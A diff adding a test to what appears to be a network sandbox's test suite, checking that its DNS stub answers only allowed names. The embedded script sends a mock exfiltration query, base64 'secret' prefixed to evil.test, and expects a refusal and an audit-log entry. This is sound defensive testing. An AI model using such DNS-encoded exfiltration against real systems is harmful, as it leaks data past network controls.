@@ -274,3 +274,32 @@ case_run "slow client cut off after the request timeout" slow_client_cut_off
 case_run "bulk transfer through a tunnel is intact" bulk_transfer_intact
 case_run "invalid patterns refused" bad_policy_input
 case_run "--net none has no proxy" net_none_stays_offline
+
+dns_stub_refuses_unknown_names() {
+	need_net
+	mkproj "$P"
+	cat >"$P/dns.py" <<'PY'
+import socket, struct, sys
+def ask(name, qtype=1):
+    q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
+    for label in name.split("."):
+        q += bytes([len(label)]) + label.encode()
+    q += b"\0" + struct.pack(">HH", qtype, 1)
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(5)
+    s.sendto(q, ("127.0.0.1", 53))
+    r = s.recv(512)
+    rcode, an = r[3] & 15, struct.unpack(">H", r[6:8])[0]
+    addrs = [socket.inet_ntoa(r[len(q) + 12 + i * 16:len(q) + 16 + i * 16]) for i in range(an)]
+    return "%s rcode=%d %s" % (name, rcode, ",".join(addrs))
+print(open("/etc/resolv.conf").read().split("\n")[1])
+print(ask("good.test"))
+print(ask("c2VjcmV0.evil.test"))
+PY
+	out=$(box --allow-domain good.test --allow-ip "$REMOTE_IP" -- python3 dns.py)
+	expected=$(printf '%s\n' "nameserver 127.0.0.1" "good.test rcode=0 $REMOTE_IP" "c2VjcmV0.evil.test rcode=5 ")
+	[ "$out" = "$expected" ] || fail "DNS stub: got '$out'"
+	"$CLAWBOX" audit --project "$P" --json | grep '"net.dns"' | grep '"host":"c2VjcmV0.evil.test"' |
+		grep -q '"decision":"deny"' || fail "refused DNS question not logged"
+}
+case_run "DNS stub answers allowed names only (no exfiltration by DNS)" dns_stub_refuses_unknown_names
